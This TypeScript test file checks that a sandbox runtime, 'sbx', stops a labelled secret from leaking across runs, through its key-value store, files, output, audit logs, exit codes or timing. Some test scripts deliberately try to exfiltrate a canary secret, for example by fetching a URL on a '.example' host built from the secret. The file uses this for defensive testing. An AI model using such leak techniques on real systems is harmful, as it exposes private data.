/** Information flow as a person meets it on the built executable: what a run has read decides where it may still write, also across runs. */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { sbx } from "../support/build.ts";

const SECRET = "c4n4ry-7731";
const made: string[] = [];
afterAll(() => {
  for (const base of made) rmSync(base, { recursive: true, force: true });
});

let base = "";
let dir = "";
beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), "sbx-flow-")));
  made.push(base);
  dir = join(base, "work");
  for (const folder of ["private", "vault", "out"]) mkdirSync(join(dir, folder), { recursive: true });
  writeFileSync(join(dir, "private/secret.txt"), SECRET);
  writeFileSync(join(dir, "plain.txt"), "plain");
});

function run(source: string, flags: readonly string[], ...args: string[]) {
  writeFileSync(join(dir, "main.ts"), source);
  const { status, stdout, stderr } = spawnSync(
    sbx,
    ["run", "--no-prompt", ...flags, "main.ts", "--", ...args],
    {
      cwd: dir,
      env: { PATH: process.env.PATH, SBX_HOME: join(base, "home"), HOME: base },
      encoding: "utf8",
    },
  );
  return { status, stdout, stderr };
}

const granted = ["-R=.", "-W=./out,./vault", "-D=kv"];
const labelled = [...granted, "--label=read=./private:personal"];
const read = 'const secret = await fs.readTextFile("private/secret.txt");';

describe("the store", () => {
  const source = `import { kv } from "sbx:data"; import * as fs from "sbx:fs"; import { args } from "sbx:plugin";
if (args[0] === "labelled") { ${read} await kv.set("word", secret); await kv.set("open", "mine"); await kv.delete("both"); }
else if (args[0] === "begin") { await kv.set("both", "1"); await kv.set("open", "ours"); }
console.error(JSON.stringify([await kv.get("word"), await kv.get("open"), await kv.get("both"), (await kv.list()).map(({ key }) => key)]));`;
  test("is divided: what a run that has read a secret keeps there, only such a run finds again", () => {
    const seen = (...args: string[]) => run(source, labelled, ...args).stderr.trim();
    expect(seen("begin")).toBe('[null,"ours","1",["both","open"]]');
    expect(seen("labelled")).toBe(`["${SECRET}","mine",null,["open","word"]]`);
    expect(seen("look")).toBe('[null,"ours","1",["both","open"]]');
    expect(seen("labelled")).toBe(`["${SECRET}","mine",null,["open","word"]]`);
  });
});

describe("two runs cannot do what one may not:", () => {
  test("what was put into a cleared folder is labelled for the next one", () => {
    const clear = ["--clear=write=./vault:personal"];
    const first = run(`import * as fs from "sbx:fs"; ${read} await fs.writeTextFile("vault/copy", secret);`, [
      ...labelled,
      ...clear,
    ]);
    expect([first.status, readFileSync(join(dir, "vault/copy"), "utf8")]).toEqual([0, SECRET]);
    const second = run(
      'import * as fs from "sbx:fs"; const copy = await fs.readTextFile("vault/copy"); await fs.writeTextFile("out/copy", copy);',
      [...labelled, ...clear],
    );
    expect([second.status, second.stderr.includes("E_FLOW")]).toEqual([77, true]);
    expect(second.stderr).not.toContain(SECRET);
  });

  test("unless a policy says that it is released there", () => {
    writeFileSync(
      join(dir, "p.json"),
      JSON.stringify({
        version: 1,
        labels: { "read=./private": "personal" },
        clear: { "write=./vault": { labels: "personal", release: true } },
      }),
    );
    const flags = ["-R=.", "-W=./out,./vault", "--policy=p.json"];
    expect(
      run(`import * as fs from "sbx:fs"; ${read} await fs.writeTextFile("vault/copy", secret);`, flags)
        .status,
    ).toBe(0);
    expect(
      run(
        'import * as fs from "sbx:fs"; await fs.writeTextFile("out/copy", await fs.readTextFile("vault/copy"));',
        flags,
      ).status,
    ).toBe(0);
  });
});

describe("nothing of a secret stays", () => {
  const source = `import * as fs from "sbx:fs"; ${read}
await fs.readTextFile("docs/" + secret).catch(() => {}); await fs.readTextFile("/x/" + secret).catch(() => {});
await fetch("http://" + secret + ".example/").catch(() => {}); console.log(secret); throw new Error(secret);`;
  test("in audit, report, output or exit code", () => {
    const { status, stdout, stderr } = run(source, [
      ...granted,
      "--label=read=./private:secret",
      "-N=*.example",
      "--report=r.json",
      "--audit=a.jsonl",
      "--json",
    ]);
    expect([status, stdout]).toEqual([76, ""]);
    for (const text of [
      stderr,
      readFileSync(join(dir, "r.json"), "utf8"),
      readFileSync(join(dir, "a.jsonl"), "utf8"),
    ])
      expect(text).not.toContain(SECRET);
    const report = JSON.parse(readFileSync(join(dir, "r.json"), "utf8"));
    expect(report).toMatchObject({ labels: ["secret"], error: { name: "Error" } });
    expect(report.denials.map(({ code }: { code: string }) => code)).toEqual(["E_READ", "E_FLOW"]);
  });
  test("and without the label it does, so that this tries something", () => {
    const { stdout } = run(source, ["-R=.", "--audit=a.jsonl"]);
    expect(stdout).toContain(SECRET);
    expect(readFileSync(join(dir, "a.jsonl"), "utf8")).toContain(SECRET);
  });
});

describe("--explain-flow", () => {
  const source = `import * as fs from "sbx:fs"; await fs.writeTextFile("out/before", "x"); ${read}
await fs.writeTextFile("vault/copy", secret); await fs.writeTextFile("out/after", secret).catch(() => {});`;
  const flags = [...labelled, "--clear=write=./vault:personal", "--explain-flow"];
  test("tells a person what raised a label, where it went, and where it was kept", () => {
    const { status, stderr } = run(source, flags);
    expect(status).toBe(0);
    expect(stderr).toBe(`flow:
  read   ${dir}/private/secret.txt  raised personal
  sent   write ${dir}/vault/copy  cleared for personal
  kept   write (withheld: the run carries labels)  not cleared for personal
`);
  });
  test("and a machine, in the report", () => {
    run(source, [...flags, "--report=r.json", "--quiet"]);
    expect(JSON.parse(readFileSync(join(dir, "r.json"), "utf8")).flow).toMatchObject({
      raised: [{ label: "personal", by: `${dir}/private/secret.txt` }],
      sinks: [
        { kind: "write", to: `${dir}/vault/copy`, labels: ["personal"], open: true },
        { kind: "write", open: false },
      ],
      dropped: 0,
    });
  });
  test("says when there is nothing to tell", () => {
    const { stderr } = run('import * as fs from "sbx:fs"; await fs.readTextFile("plain.txt");', flags);
    expect(stderr).toBe("flow: nothing that it read carries a label\n");
  });
});

describe("where standard error is closed for what the run has read", () => {
  const flags = [...granted, "--label=read=./private:secret", "--clear=stdout:secret"];
  const ways: { why: string; rest: string }[] = [
    { why: "a run that ends well", rest: "" },
    { why: "one that throws", rest: "throw new Error(secret);" },
    { why: "one that prints there", rest: "console.error(secret);" },
    { why: "one that is refused", rest: 'await fs.writeTextFile("out/" + secret, "x");' },
  ];
  test("it says the same, however long the secret is and whatever the run does with it", () => {
    const said = ways.flatMap(({ rest }) =>
      ["short", "x".repeat(300)].flatMap((text) => {
        writeFileSync(join(dir, "private/secret.txt"), text);
        return [[], ["--explain-flow"]].map(
          (more) => run(`import * as fs from "sbx:fs"; ${read} ${rest}`, [...flags, ...more]).stderr,
        );
      }),
    );
    expect(new Set(said).size).toBe(1);
    expect(said[0]).toContain("it carries secret");
  });
});

test("when a run ends that has read a secret tells nothing about it but whole seconds", () => {
  const source = `import * as fs from "sbx:fs"; ${read}
const until = performance.now() + (secret.startsWith("slow") ? 300 : 0); while (performance.now() < until);`;
  const took = (text: string, flags: readonly string[]): number => {
    writeFileSync(join(dir, "private/secret.txt"), text);
    const began = performance.now();
    run(source, flags);
    return performance.now() - began;
  };
  took("fast", granted); // bundled and cached
  const best = (text: string, flags: readonly string[]): number =>
    Math.min(took(text, flags), took(text, flags), took(text, flags));
  expect(best("slow", granted) - best("fast", granted)).toBeGreaterThan(200);
  expect(Math.abs(best("slow", labelled) - best("fast", labelled))).toBeLessThan(200);
});
